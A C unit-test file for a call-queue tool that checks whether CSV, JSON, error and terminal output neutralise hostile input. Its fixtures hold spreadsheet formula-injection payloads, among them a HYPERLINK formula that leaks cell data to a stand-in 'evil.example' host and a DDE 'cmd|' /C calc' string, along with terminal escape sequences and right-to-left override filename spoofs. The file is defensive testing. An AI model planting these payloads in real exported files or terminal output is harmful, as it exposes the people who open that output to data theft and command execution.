/*
 * Output is data, never commands: CSV that a spreadsheet cannot run, a
 * rejects file that reads back as it was written, free text refused when
 * it holds what drives a terminal, and such text masked wherever it is
 * printed.
 */
#include <fcntl.h>
#include <locale.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sysexits.h>
#include <unistd.h>

#include "callq/call.h"
#include "callq/choice.h"
#include "callq/csvin.h"
#include "callq/deleted.h"
#include "callq/dnc.h"
#include "callq/followup.h"
#include "callq/json.h"
#include "callq/lead.h"
#include "callq/note.h"
#include "callq/rejects.h"
#include "callq/settings.h"
#include "callq/stage.h"
#include "callq/table.h"
#include "callq/text.h"
#include "callq/user.h"
#include "fixture.h"

/* ESC, BEL, CSI as a C1 control, and a right-to-left override. */
#define ESC "\x1b"
#define BEL "\x07"
#define CSI "\xc2\x9b"
#define RLO "\xe2\x80\xae"

/* What a hostile lead list holds, and what must stay as it is. */
static const char *const hostile[] = {
	"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
	"+cmd|' /C calc'!A0",
	"@SUM(A1)",
	"-2+3",
	"\tTab first",
	"\rCR first",
	"'=already quoted",
	"-2.5",
	"+12127360101",
	"-",
	"+1 212-736-0101",
	"Plain, with a comma",
};
#define NHOSTILE (sizeof hostile / sizeof hostile[0])

static const char *const guarded_csv =
    "value\r\n"
    "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"\r\n"
    "'+cmd|' /C calc'!A0\r\n"
    "'@SUM(A1)\r\n"
    "'-2+3\r\n"
    "\"'\tTab first\"\r\n"
    "\"'\rCR first\"\r\n"
    "''=already quoted\r\n"
    "-2.5\r\n"
    "+12127360101\r\n"
    "-\r\n"
    "'+1 212-736-0101\r\n"
    "\"Plain, with a comma\"\r\n";

static const struct column value_col[] = { { "value", 0 } };

/* The values as one list in format, as callq prints it. */
static char *
list_of(enum format format, const char *const *values, size_t n)
{
	char *buf = NULL;
	size_t len = 0, i;
	FILE *f = open_memstream(&buf, &len);
	struct table *t;

	assert_non_null(f);
	t = table_begin(f, format, value_col, 1);
	assert_non_null(t);
	for (i = 0; i < n; i++)
		assert_int_equal(table_row(t, &values[i]), 0);
	assert_int_equal(table_end(t), 0);
	fclose(f);
	return buf;
}

static void
test_csv_guards_formulas(void **state)
{
	char *csv;

	(void)state;
	csv = list_of(FORMAT_CSV, hostile, NHOSTILE);
	assert_string_equal(csv, guarded_csv);
	free(csv);
}

static void
test_json_stays_exact(void **state)
{
	char *json;

	(void)state;
	json = list_of(FORMAT_JSON, hostile, 4);
	assert_string_equal(json, "[\n"
	    "  {\"value\": \"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,"
	    "\\\"Click\\\")\"},\n"
	    "  {\"value\": \"+cmd|' /C calc'!A0\"},\n"
	    "  {\"value\": \"@SUM(A1)\"},\n"
	    "  {\"value\": \"-2+3\"}\n]\n");
	free(json);
}

/* Reads path's records back: field 0 of each after the header. */
struct readback {
	char  *field[NHOSTILE + 1];
	size_t n;
};

static int
take_first(const struct csvin_record *r, void *arg)
{
	struct readback *rb = arg;

	if (r->number > 1 && rb->n < NHOSTILE)
		rb->field[rb->n++] = strdup(r->field[0]);
	return 0;
}

static void
read_back(const char *path, struct readback *rb)
{
	struct err err = { 0 };
	int fd = open(path, O_RDONLY);

	assert_true(fd >= 0);
	rb->n = 0;
	if (csvin_read(fd, path, take_first, rb, &err) != 0)
		fail_msg("%s", err.msg);
	close(fd);
}

static void
check_round_trip(struct readback *rb)
{
	size_t i;

	assert_int_equal(rb->n, NHOSTILE);
	for (i = 0; i < rb->n; i++) {
		assert_string_equal(rb->field[i], hostile[i]);
		free(rb->field[i]);
	}
}

static void
test_list_reads_back(void **state)
{
	char path[] = "/tmp/callq-csv-XXXXXX";
	struct readback rb;
	char *csv = list_of(FORMAT_CSV, hostile, NHOSTILE);
	int fd = mkstemp(path);

	(void)state;
	assert_true(fd >= 0);
	assert_int_equal(write(fd, csv, strlen(csv)), (ssize_t)strlen(csv));
	close(fd);
	free(csv);
	read_back(path, &rb);
	unlink(path);
	check_round_trip(&rb);
}

static void
test_rejects_read_back(void **state)
{
	char dir[] = "/tmp/callq-rejects-XXXXXX", path[64], *row[1];
	char *const header[] = { "value" };
	const size_t header_len[] = { 5 };
	struct rejects *r;
	struct err err = { 0 };
	struct readback rb;
	char *text;
	size_t i, len;
	FILE *f;

	(void)state;
	assert_non_null(mkdtemp(dir));
	snprintf(path, sizeof path, "%s/x.rejects.csv", dir);
	assert_int_equal(rejects_open(&r, path, 0, header, header_len, 1,
	    &err), 0);
	for (i = 0; i < NHOSTILE; i++) {
		row[0] = (char *)hostile[i];
		len = strlen(hostile[i]);
		assert_int_equal(rejects_write(r, row, &len, 1, "-1 <= 0",
		    (int64_t)i + 2, &err), 0);
	}
	rejects_close(r);
	f = fopen(path, "r");
	assert_non_null(f);
	text = calloc(1, 4096);
	assert_true(fread(text, 1, 4095, f) > 0);
	fclose(f);
	/* The reason is text too: "-1 <= 0" would be a formula. */
	assert_non_null(strstr(text, "'=HYPERLINK(\"\"http"));
	assert_non_null(strstr(text, "\r\n'+cmd|' /C calc'!A0,'-1 <= 0,3\r\n"));
	free(text);
	read_back(path, &rb);
	unlink(path);
	rmdir(dir);
	check_round_trip(&rb);
}

/* Nonzero when s holds a control no terminal may get (line ends aside). */
static int
has_raw_control(const char *s)
{
	const unsigned char *u = (const unsigned char *)s;

	for (; *u != '\0'; u++)
		if ((*u < 0x20 && *u != '\n' && *u != '\r') || *u == 0x7f ||
		    (u[0] == 0xc2 && u[1] >= 0x80 && u[1] < 0xa0) ||
		    (u[0] == 0xe2 && u[1] == 0x80 && u[2] >= 0xaa &&
		    u[2] <= 0xae) || (u[0] == 0xe2 && u[1] == 0x81 &&
		    u[2] >= 0xa6 && u[2] <= 0xa9))
			return 1;
	return 0;
}

/* Lines of s wrapped at width, joined by '|'. */
static void
wrapped(const char *s, int width, char *out, size_t size)
{
	size_t len, next, o = 0;

	*out = '\0';
	while (*s != '\0' && o + 2 < size) {
		len = text_wrap(s, width, &next);
		o += (size_t)snprintf(out + o, size - o, "%s%.*s", o ? "|" : "",
		    (int)len, s);
		s += next;
	}
}

/* A message wraps between words; only a word wider than a line is cut. */
static void
test_wrap_breaks_between_words(void **state)
{
	char out[256];

	(void)state;
	wrapped("Lead 42 was restored to the pool", 12, out, sizeof out);
	assert_string_equal(out, "Lead 42 was|restored to|the pool");
	wrapped("short", 12, out, sizeof out);
	assert_string_equal(out, "short");
	wrapped("abcdefghijkl mn", 5, out, sizeof out);
	assert_string_equal(out, "abcde|fghij|kl mn");
	wrapped("two  spaces   here", 6, out, sizeof out);
	assert_string_equal(out, "two|spaces|here");
	wrapped("Zo\xc3\xab's Law Office", 9, out, sizeof out);
	assert_string_equal(out, "Zo\xc3\xab's Law|Office");
	wrapped("x", 0, out, sizeof out);
	assert_string_equal(out, "x");
}

static void
test_fit_masks_every_control(void **state)
{
	char buf[128];

	(void)state;
	assert_non_null(setlocale(LC_CTYPE, "C.UTF-8"));
	assert_int_equal(text_fit("a" ESC "[2J" BEL "b\x7f" CSI "1m" RLO "c"
	    "\xe2\x81\xa6" "d\xff", 40, 0, buf, sizeof buf), 16);
	assert_string_equal(buf, "a?[2J?b??1m?c?d?");
	assert_int_equal(text_width("x" CSI RLO "\xe2\x80\xaa" "y"), 5);
	/* Padding counts a masked character as the one column it takes. */
	assert_int_equal(text_fit(RLO "ab", 5, 1, buf, sizeof buf), 5);
	assert_string_equal(buf, "?ab  ");
}

/* What is typed goes in and comes back out a character at a time, whole. */
static void
test_typed_text_takes_whole_characters(void **state)
{
	char buf[6] = "";

	(void)state;
	assert_non_null(setlocale(LC_CTYPE, "C.UTF-8"));
	text_push(buf, sizeof buf, L'Z');
	text_push(buf, sizeof buf, L'\u00eb');	/* e with diaeresis: 2 bytes */
	text_push(buf, sizeof buf, L'\u6771');	/* a kanji: 3 bytes, no room */
	assert_string_equal(buf, "Z\xc3\xab");
	text_push(buf, sizeof buf, L'x');
	assert_string_equal(buf, "Z\xc3\xabx");
	text_pop(buf);
	text_pop(buf);
	assert_string_equal(buf, "Z");
	text_pop(buf);
	text_pop(buf);
	assert_string_equal(buf, "");
}

static void
test_clean_refuses_bidi(void **state)
{
	(void)state;
	assert_true(text_is_clean("Zoë's Bakery, 東京"));
	assert_false(text_is_clean("abc" RLO "exe.doc"));
	assert_false(text_is_clean("\xe2\x81\xa7" "isolate"));
	assert_false(text_is_clean("c1 " CSI));
	assert_false(text_is_clean("del\x7f"));
}

static void
test_scrub_replaces_bidi(void **state)
{
	char field[] = "Acme" RLO "gpj.exe" CSI "\t!";
	long n;

	(void)state;
	n = text_scrub(field, strlen(field));
	assert_int_equal(n, 15);
	field[n] = '\0';
	assert_string_equal(field, "Acme gpj.exe  !");
}

static void
test_json_escapes_every_control(void **state)
{
	char in[64], *out = NULL, want[512];
	size_t len = 0, o = 0, w = 1;
	FILE *f;
	int c;

	(void)state;
	want[0] = '"';
	for (c = 1; c < 0x20; c++) {
		in[o++] = (char)c;
		w += (size_t)snprintf(want + w, sizeof want - w, c == '\n' ?
		    "\\n" : c == '\t' ? "\\t" : "\\u%04x", c);
	}
	snprintf(in + o, sizeof in - o, "\x7f\xc2\x85" RLO "\xe2\x81\xa9"
	    "\xff" "ok");
	snprintf(want + w, sizeof want - w,
	    "\\u007f\\u0085\\u202e\\u2069\\ufffdok\"");
	assert_non_null(f = open_memstream(&out, &len));
	json_write_string(f, in);
	fclose(f);
	/* Exact JSON, and not one raw control byte in it. */
	assert_string_equal(out, want);
	assert_false(has_raw_control(out));
	free(out);
}

static void
test_err_set_masks(void **state)
{
	struct err err = { 0 };

	(void)state;
	assert_int_equal(err_set(&err, EX_DATAERR, "no stage '%s'",
	    "x" ESC "]0;owned" BEL CSI RLO), EX_DATAERR);
	assert_string_equal(err.msg, "no stage 'x?]0;owned???\'");
}

/* A CSV written to a terminal: each control shows as '?'. */
static void
test_csv_to_terminal_is_masked(void **state)
{
	static const char *const rows[] = { "a" ESC "[31m" BEL "b" CSI RLO };
	char got[256] = "";
	int master, slave;
	ssize_t n;
	size_t len;
	FILE *f;
	struct table *t;

	(void)state;
	assert_true((master = posix_openpt(O_RDWR | O_NOCTTY)) >= 0);
	assert_int_equal(grantpt(master), 0);
	assert_int_equal(unlockpt(master), 0);
	assert_true((slave = open(ptsname(master), O_RDWR | O_NOCTTY)) >= 0);
	assert_non_null(f = fdopen(slave, "w"));
	t = table_begin(f, FORMAT_CSV, value_col, 1);
	assert_int_equal(table_row(t, rows), 0);
	assert_int_equal(table_end(t), 0);
	fclose(f);
	/*
	 * The terminal hands what was written to the master side in pieces
	 * (the kernel pushes its buffer later, and later still on a loaded
	 * machine): read to the end, which the closed side marks with EIO.
	 */
	len = 0;
	while (len < sizeof got - 1 &&
	    (n = read(master, got + len, sizeof got - 1 - len)) > 0)
		len += (size_t)n;
	close(master);
	assert_true(len > 0);
	got[len] = '\0';
	assert_false(has_raw_control(got));
	assert_non_null(strstr(got, "a?[31m?b??"));
}

/* A refusal: the status, the field named, the character, nothing kept. */
static void
refused(int rc, const struct err *err, const char *what, const char *cp)
{
	if (rc != EX_DATAERR || strncmp(err->msg, what, strlen(what)) != 0 ||
	    strstr(err->msg, cp) == NULL)
		fail_msg("want %s ... %s refused, got %d: %s", what, cp, rc,
		    err->msg);
}

static void
test_store_refuses_controls(void **state)
{
	struct fixture *f = *state;
	struct actor rep = fixture_user(f, "rep1", ROLE_REP, NULL, NULL);
	struct stage_spec stage = { "Demo" ESC "[5m", 50, 0, 0, 0, NULL, 0 };
	struct user_spec user = { "rep2", "Rep" BEL, ROLE_REP, NULL, NULL,
	    NULL, NULL, NULL };
	struct call_log log = { 0 };
	struct call_result res;
	struct lead_change ch;
	const char *e164 = "+12127360199";
	struct err err;
	int64_t lead, id;
	size_t added;
	int audit;

	lead = fixture_lead(f, &rep, &err, "name=Acme", "phone=+12127360101",
	    NULL);
	assert_true(lead > 0);
	audit = fixture_count(f, "SELECT count(*) FROM audit");
	refused(store_note_add(f->st, &rep, lead, "hi" ESC "[2J", &err), &err,
	    "the note holds", "U+001B (escape), at character 3");
	log.lead_id = lead;
	log.disposition = "Busy";
	log.note = "ok" BEL;
	refused(store_call_log(f->st, &rep, &log, &res, &err), &err,
	    "the note holds", "U+0007");
	refused(store_followup_add(f->st, &rep, lead, FIXTURE_NOW + 3600,
	    "call " RLO "back", &id, &err), &err, "the follow-up's note",
	    "bidirectional control, U+202E");
	refused(store_followup_done(f->st, &rep, 1, "done\n", &err), &err,
	    "the outcome", "U+000A (a line break)");
	refused(store_choice_add(f->st, &f->admin, LIST_PAUSE, "Nap" ESC,
	    NULL, &err), &err, "the name", "U+001B");
	refused(store_choice_rename(f->st, &f->admin, LIST_PAUSE, "Lunch",
	    "Lunch" CSI, &err), &err, "the new name", "U+009B");
	refused(store_stage_add(f->st, &f->admin, &stage, &err), &err,
	    "the stage name", "U+001B");
	refused(store_stage_rename(f->st, &f->admin, "Prospect", "P\t",
	    &err), &err, "the new stage name", "U+0009 (a tab)");
	refused(store_user_add(f->st, &f->admin, &user, &id, &err), &err,
	    "the user's name", "U+0007");
	user.name = "Rep Two";
	user.team = "Team" ESC "[8m";
	refused(store_user_add(f->st, &f->admin, &user, &id, &err), &err,
	    "the team name", "U+001B");
	refused(store_user_set_team(f->st, &f->admin, "rep1", "T" RLO, &err),
	    &err, "the team name", "U+202E");
	refused(store_region_add(f->st, &f->admin, "East" BEL, "US", &id,
	    &err), &err, "the region name", "U+0007");
	refused(store_setting_set(f->st, &f->admin, "lease_minutes", "15" ESC,
	    &err), &err, "the value of lease_minutes", "U+001B");
	refused(store_dnc_add(f->st, &f->admin, &e164, 1, "asked" BEL, &added,
	    &err), &err, "the reason", "U+0007");
	refused(store_lead_restore(f->st, &f->admin, lead, "oops" ESC, &err),
	    &err, "the reason", "U+001B");
	refused(store_payment_restore(f->st, &f->admin, 1, "x" RLO, &err),
	    &err, "the reason", "U+202E");
	refused(lead_change_parse(lead_field_find("city"), "Paris" RLO,
	    FIXTURE_NOW, &ch, &err), &err, "--city", "U+202E");
	/* Nothing of it reached the database. */
	assert_int_equal(fixture_count(f, "SELECT count(*) FROM audit"), audit);
	assert_int_equal(fixture_count(f, "SELECT count(*) FROM notes"), 0);
	assert_int_equal(fixture_count(f, "SELECT count(*) FROM calls"), 0);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_csv_guards_formulas),
		cmocka_unit_test(test_json_stays_exact),
		cmocka_unit_test(test_list_reads_back),
		cmocka_unit_test(test_rejects_read_back),
		cmocka_unit_test(test_fit_masks_every_control),
		cmocka_unit_test(test_wrap_breaks_between_words),
		cmocka_unit_test(test_typed_text_takes_whole_characters),
		cmocka_unit_test(test_clean_refuses_bidi),
		cmocka_unit_test(test_scrub_replaces_bidi),
		cmocka_unit_test(test_json_escapes_every_control),
		cmocka_unit_test(test_err_set_masks),
		cmocka_unit_test(test_csv_to_terminal_is_masked),
		cmocka_unit_test_setup_teardown(test_store_refuses_controls,
		    fixture_setup, fixture_teardown),
	};

	return cmocka_run_group_tests_name("text", tests, NULL, NULL);
}
